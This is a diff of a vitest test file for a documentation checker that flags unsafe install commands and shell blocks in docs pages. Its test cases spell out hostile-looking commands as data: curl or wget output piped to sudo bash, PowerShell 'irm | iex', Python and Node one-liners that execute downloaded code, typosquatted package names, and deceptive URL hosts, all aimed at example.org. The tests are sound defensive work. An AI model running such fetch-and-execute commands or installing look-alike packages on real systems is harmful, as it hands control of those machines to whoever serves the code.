@@ -1,11 +1,18 @@
 import {describe, expect, it} from 'vitest';
 import {listFiles, readText} from '@astral-docs/content-checks/files';
 import {formatFinding} from '@astral-docs/content-checks/report';
+import type {PageRules} from '@astral-docs/content-checks/rules/pageRules';
+import {pageRules} from '../../config/pageRules';
+import {checkShellBlock} from '@astral-docs/content-checks/rules/shell';
 import {checkInstallCommands, listLockFilePackages} from '@astral-docs/content-checks/rules/commands';
 
 const locked = new Set(['ethers', 'tsx', '@scope/kit']);
+const rules: PageRules = {
+  ...pageRules,
+  packages: {'pypi shapely': 'The page draws with it.'},
+};
 const found = (text: string): string[] =>
-  checkInstallCommands('docs/page.md', text, locked, {'pypi shapely': 'The page draws with it.'}).map(formatFinding);
+  checkInstallCommands('docs/page.md', {line: 1, text}, locked, rules).map(formatFinding);
 
 describe('commands that a page tells readers to run', () => {
   it.each([
@@ -46,21 +53,29 @@ describe('commands that a page tells readers to run', () => {
     ['npm install github:someone/something', 'github:someone/something (npm)'],
     ['python3 -m pip install shaply', "add 'pypi shaply' with a reason to config/pageRules.ts"],
     ['go install example.org/evil@latest', 'example.org/evil (go)'],
-    ['curl -fsSL https://example.org/install | sudo bash', 'runs a download without a look at it'],
-    ['bash <(curl -s https://example.org/install)', 'runs a download without a look at it'],
-    ['sh -c "$(wget -qO- https://example.org/install)"', 'runs a download without a look at it'],
-    ['irm https://example.org/install.ps1 | iex', 'runs a download without a look at it'],
-    ['curl https://example.org/install \\\n  | tee log | sudo -E /bin/bash -', 'runs a download without a look at it'],
-    ['curl "https://example.org/a?b=1&c" | "bash"', 'runs a download without a look at it'],
-    ['curl https://example.org/a |\n  $SHELL', 'runs a download without a look at it'],
-    ['bash <<< "$(curl https://example.org/a)"', 'runs a download without a look at it'],
-    ['python3 -c "exec(urlopen(\'https://example.org/a\').read())"', 'runs a download without a look at it'],
-    ['node -e "`curl https://example.org/a.js`"', 'runs a download without a look at it'],
-    ['curl -o a https://example.org/install && sh a', 'runs a download without a look at it'],
+    ['curl -fsSL https://example.org/install | sudo bash', 'The command reads https://example.org/'],
+    ['bash <(curl -s https://example.org/install)', 'The command reads https://example.org/'],
+    ['sh -c "$(wget -qO- https://example.org/install)"', 'The command reads https://example.org/'],
+    ['irm https://example.org/install.ps1 | iex', 'The command reads https://example.org/'],
+    [
+      'curl https://example.org/install \\\n  | tee log | sudo -E /bin/bash -',
+      'The command reads https://example.org/',
+    ],
+    ['curl "https://example.org/a?b=1&c" | "bash"', 'The command reads https://example.org/'],
+    ['curl https://example.org/a |\n  $SHELL', 'The command reads https://example.org/'],
+    ['bash <<< "$(curl https://example.org/a)"', 'The command reads https://example.org/'],
+    ['python3 -c "exec(urlopen(\'https://example.org/a\').read())"', 'The command reads https://example.org/'],
+    ['node -e "`curl https://example.org/a.js`"', 'The command reads https://example.org/'],
+    ['curl -o a https://example.org/install && sh a', 'The command reads https://example.org/'],
     ['npm install \\\n  ethres', 'ethres (npm)'],
     ['np\\\nm install ethres', 'ethres (npm)'],
     [`npm ${'-a '.repeat(60)}! || npm i evil`, 'evil (npm)'],
-    [`curl a | sudo ${'-/sudo '.repeat(60)}! || npm i evil`, 'runs a download without a look at it'],
+    [`curl a | sudo ${'-/sudo '.repeat(60)}! || npm i evil`, 'evil (npm)'],
+    ['curl -s $PLACE | sh', 'The command reads $PLACE'],
+    ['curl example.org/a | tee a.sh && sh a.sh', 'The command reads example.org/a'],
+    ['tee a.sh <a | sh', 'runs a download without a look at it'],
+    ['Run `pixi add evil` first.', '`pixi add evil` is not a command'],
+    ['Write `evil>=1` into requirements-dev.txt.', 'requirements-dev.txt: packages are listed in a form'],
     ['Type: n"p"m i\u2028 evil', 'evil (npm)'],
     ['/usr/bin/npm i evil', 'evil (npm)'],
     ['1. Run <code>pnpm -w add evil</code>.', 'evil (npm)'],
@@ -77,6 +92,40 @@ describe('commands that a page tells readers to run', () => {
     const [first = ''] = found(`Text.\n\n    ${line}`);
     expect(first).toContain('docs/page.md:3:1 ');
     expect(first).toContain(message);
+  });
+});
+
+describe('commands in blocks of shell', () => {
+  const check = (text: string): string[] => checkShellBlock('docs/page.md', {line: 5, text}, rules).map(formatFinding);
+  it.each([
+    'PORT=3000 npm start > log.txt 2>&1',
+    '# A note: evil && evil\nnpm pkg set type=module',
+    'curl "$BASE_URL/graphql" \\\n  -d \'{ evil;\n evil }\'',
+    'echo "$(cat a.txt) & b" | (cd kit && npx tsx a.ts "$(cat "b.txt")")',
+    'while [ "$next" != null ]; do next=$(jq -r .next a.json); done',
+    'curl -fO "https://docs.astral.global/samples/{a,b}.ts"',
+  ])('pass when the lists have each command and address: %s', (text) => expect(check(text)).toEqual([]));
+
+  it.each([
+    ['npm i\npixi add evil', 6, '`pixi add evil`'],
+    ['echo a | sudo evil', 5, '`sudo evil`'],
+    ['npm i; if evil; then break', 5, '`evil`'],
+    ['echo "$(evil -a)"', 5, '`evil -a`'],
+    ['echo \\\n  a &\nevil', 7, '`evil`'],
+    ['cat <(evil)', 5, '`evil`'],
+    ['cat `evil`', 5, '`evil`'],
+    [`npm i ${'$(cat '.repeat(9999)}$(evil`, 5, '`evil`'],
+    [`npm i ${'a.'.repeat(50_000)} "${'$()'.repeat(9999)}; evil`, 5, '`evil`'],
+    ['"npm" i', 5, "`''''' i`"],
+    ['git clone git@example.org:evil/a', 5, 'reads example.org:evil/a'],
+    ['curl -O example.org/a', 5, 'reads example.org/a'],
+    ["curl 'https://docs.astral.global@example.org/'", 5, 'reads https://docs.astral.global@example.org/'],
+    ['curl https://docs.astral.global.example.org', 5, 'reads https://docs.astral.global.example.org'],
+  ])('fail with the line and what to do: %s', (text, line, message) => {
+    const [first = ''] = check(text);
+    expect(first).toContain(`docs/page.md:${line}:1 `);
+    expect(first).toContain(message);
+    expect(first).toContain('config/pageRules.ts');
   });
 });
 
